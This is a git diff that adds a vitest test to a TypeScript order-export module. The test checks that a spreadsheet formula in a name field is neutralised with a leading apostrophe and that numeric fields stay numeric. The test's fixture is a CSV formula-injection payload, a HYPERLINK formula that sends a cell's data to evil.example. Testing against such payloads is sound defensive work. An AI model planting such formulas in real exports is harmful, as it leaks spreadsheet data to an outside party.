@@ -2,7 +2,7 @@
 // short page that ends it, and errors that leave nothing behind.
 import { describe, expect, it } from "vitest";
 import { receiveOrder } from "@/lib/ne/registry/resources/receive-order";
-import { exportStep, fetchAllRows, fetchedRanges, fetchedRows, fieldNamers, namedRows, type ExportPages, type ExportRow } from "./export";
+import { exportDocument, exportStep, fetchAllRows, fetchedRanges, fetchedRows, fieldNamers, namedRows, type ExportPages, type ExportRow } from "./export";
 
 /** A page request the test answers by hand. */
 interface Pending {
@@ -399,5 +399,19 @@ describe("names in an export (what the screen shows)", () => {
 
   it("names nothing without namers (codes)", () => {
     expect(namedRows(rows, {})).toEqual(rows);
+  });
+
+  it("neutralises a formula in a name, whatever the field's type, and keeps plain numbers numbers", () => {
+    const evil = '=HYPERLINK("http://evil.example/?x="&C2,"Open")';
+    const named = namedRows(
+      [{ ...rows[0], receive_order_shop_id: "1", receive_order_total_amount: "-120", receive_order_payment_method_id: "1" }],
+      fieldNamers(fields, "ja", rowNames, { receive_order_shop_id: new Map([["1", evil]]), receive_order_payment_method_id: new Map([["1", "＠代引"]]) }),
+    );
+    const withAmount = [...fields, fieldsByName.get("receive_order_total_amount")!];
+    // The shop id and the amount are numbers (N): only text (S) fields were protected before.
+    expect(withAmount.map((f) => f.type)).toEqual(["N", "N", "S", "S", "S", "S", "N"]);
+    const doc = exportDocument(named, withAmount, "names", "ja");
+    expect(doc.header).toEqual(withAmount.map((f) => f.name));
+    expect(doc.rows[0]).toEqual(["7", `'${evil}`, "出荷確定済（完了）", "'＠代引", "店頭受取", "有効な受注です。", "-120"]);
   });
 });
